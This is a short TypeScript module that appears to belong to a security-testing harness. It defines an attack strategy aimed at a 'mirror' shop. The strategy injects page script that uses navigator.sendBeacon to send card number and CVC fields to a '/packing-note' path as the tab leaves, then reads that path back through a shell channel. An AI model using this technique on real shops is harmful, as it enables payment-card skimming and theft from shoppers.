import type { Strategy } from '#scripts/attack/strategy';

/** A beacon outlives its page: sent while the tab leaves, read from a shell. */
export const beaconAndLeave: Strategy = {
  name: 'beacon while the tab leaves',
  channel: 'shell',
  shops: ['mirror'],
  async run({ page, code, shell, shop }) {
    await page(
      "navigator.sendBeacon('/packing-note', form({ card_number: number, card_cvc: code })); return 'sent'",
    );
    await code(
      `await page.goto('${shop}/packing-note').catch(() => {}); return page.content().catch(String);`,
      'this tab',
    );
    await shell('/packing-note');
    await code(
      `await page.waitForTimeout(3500); await page.goto('${shop}/packing-note').catch(() => {}); return page.content().catch(String);`,
      'this tab',
    );
  },
};
